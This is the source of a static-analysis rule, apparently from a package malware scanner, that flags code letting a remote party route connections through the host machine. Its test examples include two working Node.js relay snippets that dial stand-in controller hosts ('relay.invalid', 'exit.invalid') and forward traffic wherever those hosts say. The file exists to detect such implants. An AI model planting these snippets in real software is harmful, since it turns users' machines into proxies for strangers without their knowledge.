import { isAskedAtFixed } from '../src/define/askers.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';
import { isServed } from '../src/vocabulary/served.js';

export default defineRule({
  meta: {
    summary: 'Lets a stranger talk to others through the machine it runs on',
    why: 'Networks of proxies are sold by the address: a package that connects wherever its maker says makes a way into the network of its user, and puts the name of the user on what strangers do. Proxies and tunnels go where who asks them says; clients of a cluster go on to its other members from a server that their caller named.',
    behaviour: 'tampering',
    messages: {
      told: 'Opens connections to wherever {source} says, unasked, with {sink}',
    },
    bits: { told: 13 },
  },
  examples: {
    flags: [
      {
        title: 'a line from the maker says where to',
        code: `const net = require('net');\n(function up() {\n  const line = net.connect(4443, 'relay.invalid');\n  line.once('data', told => {\n    const [host, port] = String(told).split(':');\n    const other = net.connect(Number(port), host, () => line.pipe(other).pipe(line));\n  });\n  line.on('close', () => setTimeout(up, 5000));\n})();`,
      },
      {
        title: 'messages are passed on to whom they name',
        code: `const WebSocket = require('ws'), net = require('net');\nconst line = new WebSocket('wss://exit.invalid/node'), open = {};\nline.on('message', text => {\n  const { id, host, port, data } = JSON.parse(text);\n  open[id] ??= net.connect({ host, port }).on('data', bytes => line.send(JSON.stringify({ id, data: bytes.toString('base64') })));\n  open[id].write(Buffer.from(data, 'base64'));\n});`,
      },
    ],
    passes: [
      {
        title: 'a proxy goes where it is asked to go',
        code: `const net = require('net');\nexports.listen = port => net.createServer(from => from.once('data', head => {\n  const [, host, to] = /CONNECT ([^:]+):(\\d+)/.exec(String(head));\n  const other = net.connect(Number(to), host, () => from.pipe(other).pipe(from));\n})).listen(port);`,
      },
      {
        title: 'a client goes on to the other members of a cluster',
        code: `const net = require('net');\nexports.connect = (host, port, ready) => {\n  const seed = net.connect(port, host);\n  seed.once('data', list => ready(JSON.parse(list).map(one => net.connect(one.port, one.host))));\n};`,
      },
      {
        title: 'a game asks its lobby for a server when it is started',
        code: `const net = require('net');\nexports.play = async () => {\n  const { host, port } = await (await fetch('https://lobby.invalid/next')).json();\n  return net.connect(port, host);\n};`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test') return;
    for (const call of context.calls('network')) {
      if (!/^(?:net|tls)\.(?:connect|createConnection|Socket\(\)\.connect)$/.test(call.name)) continue;
      const label = hostLabels(context, call).find(one => isAskedAtFixed(context, one));
      if (!label || !waysTo(context, call.node).isUnasked) continue;
      context.report({
        messageId: 'told',
        data: { source: label.detail, sink: call.name },
        chain: [
          ...stepsOf(label),
          step('sink', `connects to where it says with ${call.name}`, context.file, call.node),
        ],
      });
      return;
    }
  },
});

/** What decides on the machine that is connected to. */
function hostLabels(context: FileContext, { args: [first, second] }: Call): readonly Label[] {
  return [
    ...(first ? context.labelsOfProperty(first, 'host') : []),
    ...(second && !/Function/.test(second.type) ? context.labelsOf(second) : []),
  ].filter(({ kind, detail }) => kind === 'remote' && !isServed(detail));
}
